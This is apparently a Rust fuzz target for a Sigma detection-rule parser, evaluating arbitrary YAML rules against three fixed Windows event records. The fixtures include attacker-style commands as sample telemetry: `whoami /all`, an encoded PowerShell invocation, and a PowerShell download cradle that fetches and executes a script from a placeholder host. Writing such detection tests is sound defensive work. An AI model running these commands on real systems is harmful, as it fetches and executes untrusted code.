//! Arbitrary text as Sigma YAML: `RuleSet::from_yaml` must never panic (what cannot load is
//! reported as `RuleStatus::Failed`), and whatever loads is evaluated on fixed records, with
//! correlation state fed as triage does.

#![no_main]

use std::path::Path;
use std::sync::{Arc, OnceLock};

use chrono::DateTime;
use libfuzzer_sys::fuzz_target;
use rampart_sigma::RuleSet;
use rampart_sources::WinEvent;
use serde_json::json;

/// A Sysmon process creation, a Security logon and a PowerShell script block, as `read_file`
/// renders them.
fn events() -> &'static [WinEvent] {
    static EVENTS: OnceLock<Vec<WinEvent>> = OnceLock::new();
    EVENTS.get_or_init(|| {
        let source: Arc<Path> = Arc::from(Path::new("fuzz.evtx"));
        let time = DateTime::UNIX_EPOCH;
        [
            json!({"Event": {
                "System": {
                    "Provider_attributes": {"Name": "Microsoft-Windows-Sysmon"},
                    "EventID": 1,
                    "TimeCreated_attributes": {"SystemTime": "2024-05-01T10:00:00.000000Z"},
                    "EventRecordID": 1,
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "Computer": "WS01.corp.local",
                    "Security_attributes": {"UserID": "S-1-5-18"}
                },
                "EventData": {
                    "Image": "C:\\Windows\\System32\\cmd.exe",
                    "OriginalFileName": "Cmd.Exe",
                    "CommandLine": "cmd.exe /c whoami /all & powershell -enc SQBFAFgA",
                    "CurrentDirectory": "C:\\Users\\bob\\",
                    "User": "CORP\\bob",
                    "IntegrityLevel": "High",
                    "Hashes": "SHA256=0123456789ABCDEF",
                    "ParentImage": "C:\\Windows\\explorer.exe",
                    "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
                    "ProcessId": 4242
                }
            }}),
            json!({"Event": {
                "System": {
                    "Provider_attributes": {"Name": "Microsoft-Windows-Security-Auditing"},
                    "EventID": 4624,
                    "TimeCreated_attributes": {"SystemTime": "2024-05-01T10:00:01.000000Z"},
                    "EventRecordID": 2,
                    "Channel": "Security",
                    "Computer": "DC01.corp.local"
                },
                "EventData": {
                    "TargetUserName": "Administrator",
                    "TargetDomainName": "CORP",
                    "LogonType": 3,
                    "IpAddress": "10.0.0.5",
                    "AuthenticationPackageName": "NTLM",
                    "LogonProcessName": "NtLmSsp "
                }
            }}),
            json!({"Event": {
                "System": {
                    "Provider_attributes": {"Name": "Microsoft-Windows-PowerShell"},
                    "EventID": 4104,
                    "TimeCreated_attributes": {"SystemTime": "2024-05-01T10:00:02.000000Z"},
                    "EventRecordID": 3,
                    "Channel": "Microsoft-Windows-PowerShell/Operational",
                    "Computer": "WS01.corp.local"
                },
                "EventData": {
                    "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                    "Path": ""
                }
            }}),
        ]
        .into_iter()
        .enumerate()
        .map(|(i, json)| {
            WinEvent::from_json(source.clone(), i as u64 + 1, time, json).expect("fixed event")
        })
        .collect()
    })
}

fuzz_target!(|data: &[u8]| {
    let text = String::from_utf8_lossy(data);
    let rules = RuleSet::from_yaml(&text, Path::new("fuzz.yml"));
    let mut detections = Vec::new();
    let mut held = Vec::new();
    for event in events() {
        if let Some(input) = rules.evaluate(event, &mut detections) {
            held.push(input);
        }
    }
    if rules.has_correlations() {
        let mut correlator = rules.correlator();
        for input in held {
            correlator.feed(input, &mut detections);
        }
    }
});
